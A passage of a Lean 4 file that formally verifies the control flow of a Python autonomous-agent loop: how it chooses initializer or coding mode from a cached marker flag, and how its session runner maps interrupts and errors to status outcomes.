  ⟨(error_retries_and_marker_unchanged (fun _ => Status.error) (fun _ m => m)
      false 2 false).1 ⟨2, Mode.initializer, Status.error, false, false, true⟩
      (by decide) (by decide),
   (error_retries_and_marker_unchanged (fun _ => Status.error) (fun _ m => m)
      false 2 false).2.1 ⟨1, Mode.initializer, Status.error, false, false, true⟩
      (by decide) (by decide)⟩

/-- C4 (counterexample): the mode is NOT recomputed from the marker file
each iteration.  With the marker absent at start, an ERROR first session,
and the marker created externally before iteration 2, iteration 2 starts
with the marker present yet still runs INITIALIZER, because the code
cached `is_first_run` before the loop (agent.py line 113). -/
theorem mode_not_recomputed_from_marker :
    (run_autonomous_agent (fun _ => Status.error)
        (fun i m => if i = 2 then true else m) false 2 false).map
      (fun r => (r.markerBefore, r.mode)) =
      [(false, Mode.initializer), (true, Mode.initializer)] := by
  decide

/-- C4 (amended): the mode decision uses the in-memory `is_first_run`
flag, read from the marker once before the loop and updated in-process;
when the marker file is not modified externally during the run, this flag
agrees with the marker, so every iteration starting with the marker
present runs CODING, independent of iteration count. -/
theorem marker_present_runs_coding_if_no_external_change
    (outcomes : Nat → Status) (ext : Nat → Bool → Bool) (marker0 : Bool)
    (N : Nat) (init_only : Bool) (hext : ∀ i m, ext i m = m) :
    ∀ r ∈ run_autonomous_agent outcomes ext marker0 N init_only,
      r.markerBefore = true → r.mode = Mode.coding :=
  runLoopFuel_cached_flag outcomes ext init_only hext N 0 (!marker0) marker0 rfl

theorem marker_present_runs_coding_witness :
    (⟨1, Mode.coding, Status.success, true, true, false⟩ : IterRec).mode =
      Mode.coding :=
  marker_present_runs_coding_if_no_external_change (fun _ => Status.success)
    (fun _ m => m) true 1 false (fun _ _ => rfl)
    ⟨1, Mode.coding, Status.success, true, true, false⟩ (by decide) (by decide)

/-- C3 (code bug): the embedded `run_autonomous_agent` has exactly the
inputs of agent.py lines 97-102 — session outcomes, filesystem behaviour,
initial marker state, `max_iterations`, `init_only` — and no skip-init
input; consequently, whenever the marker is absent at start the first
iteration always runs INITIALIZER: no argument can force CODING mode. -/
theorem no_skip_init_parameter (outcomes : Nat → Status)
    (ext : Nat → Bool → Bool) (N : Nat) (init_only : Bool) :
    ((run_autonomous_agent outcomes ext false (N + 1) init_only).map
        IterRec.mode).head? = some Mode.initializer := by
  rw [run_autonomous_agent]
  simp only [runLoopFuel]
  cases h : outcomes (0 + 1) with
  | interrupted => rfl
  | error => rfl
  | success => cases init_only <;> rfl

/-! ### Session Runner — helper lemma and claim -/

theorem sessionLoop_clean :
    ∀ pre : List StreamStep, cleanSteps pre = true →
      ∀ rest acc, ∃ acc2, sessionLoop (pre ++ rest) acc = sessionLoop rest acc2 := by
  intro pre
  induction pre with
  | nil => intro _ rest acc; exact ⟨acc, rfl⟩
  | cons s ss ih =>
    intro h rest acc
    rw [cleanSteps, List.all_cons, Bool.and_eq_true] at h
    obtain ⟨hs, hss⟩ := h
    cases s with
    | keyboardInterrupt => exact absurd hs (by decide)
    | exceptionRaised e => simp [stepContinues] at hs
    | msg msg =>
      cases msg with
      | assistant blocks => exact ih hss rest (acc ++ textsOf blocks)
      | other => exact ih hss rest acc
      | result err =>
        cases err with
        | none => exact ih hss rest acc
        | some e =>
          simp only [stepContinues] at hs
          have hgoal : sessionLoop ((StreamStep.msg (Msg.result (some e)) :: ss) ++ rest)
              acc = sessionLoop (ss ++ rest) acc := by
            simp only [List.cons_append, sessionLoop]
            rw [if_pos hs]
            rfl
          rw [hgoal]
          exact ih hss rest acc

/-- C9: `run_agent_session` always resolves to exactly one of the three
outcomes; after any prefix of events that does not end the session, a
raised `KeyboardInterrupt` yields INTERRUPTED, any other raised exception
yields ERROR with its description, and a terminal result event carrying a
truthy error yields ERROR with that error as payload even if text was
already accumulated. -/
theorem session_runner_boundary :
    (∀ stream : List StreamStep,
      (run_agent_session stream).1 = Status.success ∨
      (run_agent_session stream).1 = Status.error ∨
      (run_agent_session stream).1 = Status.interrupted) ∧
    (∀ pre post : List StreamStep, cleanSteps pre = true →
      run_agent_session (pre ++ StreamStep.keyboardInterrupt :: post) =
        (Status.interrupted, "User interrupted".toList)) ∧
    (∀ pre post : List StreamStep, ∀ e : List Char, cleanSteps pre = true →
      run_agent_session (pre ++ StreamStep.exceptionRaised e :: post) =
        (Status.error, e)) ∧
    (∀ pre post : List StreamStep, ∀ e : List Char,
      cleanSteps pre = true → e.isEmpty = false →
      run_agent_session (pre ++ StreamStep.msg (Msg.result (some e)) :: post) =
        (Status.error, e)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro stream
    cases hst : (run_agent_session stream).1 with
    | success => exact Or.inl rfl
    | error => exact Or.inr (Or.inl rfl)
    | interrupted => exact Or.inr (Or.inr rfl)
  · intro pre post h
    obtain ⟨acc2, heq⟩ := sessionLoop_clean pre h (StreamStep.keyboardInterrupt :: post) []
    rw [run_agent_session, heq]
    rfl
  · intro pre post e h
    obtain ⟨acc2, heq⟩ := sessionLoop_clean pre h (StreamStep.exceptionRaised e :: post) []
    rw [run_agent_session, heq]
    rfl
  · intro pre post e h he
    obtain ⟨acc2, heq⟩ := sessionLoop_clean pre h
      (StreamStep.msg (Msg.result (some e)) :: post) []
    rw [run_agent_session, heq]
    simp only [sessionLoop]
    rw [if_neg (by rw [he]; exact Bool.false_ne_true)]

theorem session_runner_boundary_witness :
    run_agent_session ([StreamStep.msg (Msg.assistant [Block.text "hi".toList])] ++
        StreamStep.msg (Msg.result (some "boom".toList)) :: []) =
      (Status.error, "boom".toList) ∧
    run_agent_session ([StreamStep.msg Msg.other] ++
        StreamStep.keyboardInterrupt :: []) =
      (Status.interrupted, "User interrupted".toList) ∧
    run_agent_session (([] : List StreamStep) ++
        StreamStep.exceptionRaised "net down".toList :: []) =
      (Status.error, "net down".toList) :=
  ⟨session_runner_boundary.2.2.2
      [StreamStep.msg (Msg.assistant [Block.text "hi".toList])] []
      "boom".toList (by decide) (by decide),
   session_runner_boundary.2.1 [StreamStep.msg Msg.other] [] (by decide),
   session_runner_boundary.2.2.1 [] [] "net down".toList (by decide)⟩

end HSAgent
